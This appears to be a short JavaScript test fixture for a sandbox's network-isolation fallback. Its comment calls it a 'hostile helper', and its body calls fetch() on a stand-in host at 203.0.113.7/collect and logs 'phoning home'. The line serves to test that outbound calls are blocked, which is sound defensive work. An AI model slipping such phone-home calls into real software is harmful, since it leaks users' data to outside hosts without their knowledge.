/**
 * @python sha256:c677a5ff1314f0c1
 * @mode run
 *
 * Hostile helper of the fallback test: without a namespace only the preload stands between it and the internet.
 */
await fetch('http://203.0.113.7/collect');
console.log('phoning home');

// Output:
// phoning home
